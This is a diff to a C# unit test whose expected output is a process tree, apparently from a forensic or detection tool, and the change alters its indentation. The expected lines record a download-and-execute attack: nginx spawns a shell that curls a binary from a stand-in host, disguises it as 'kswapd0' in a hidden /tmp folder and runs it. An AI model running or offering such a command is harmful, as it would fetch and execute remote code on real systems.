@@ -18,14 +18,14 @@ public class TreeCommandTests
         Assert.Equal(new[]
         {
             "host: " + file,
-            "└─ systemd (1): /sbin/init",
-            "   └─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
-            "      └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
-            "         └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
-            "            └─ nginx (24311) [thread]: /usr/sbin/nginx",
-            "               └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
-            "                  └─ sh (24313) [thread]: /usr/bin/dash",
-            "                     └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
+            "systemd (1): /sbin/init",
+            "└─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
+            "   └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
+            "      └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
+            "         └─ nginx (24311) [thread]: /usr/sbin/nginx",
+            "            └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
+            "               └─ sh (24313) [thread]: /usr/bin/dash",
+            "                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
         }, run.StdoutLines);
     }
 
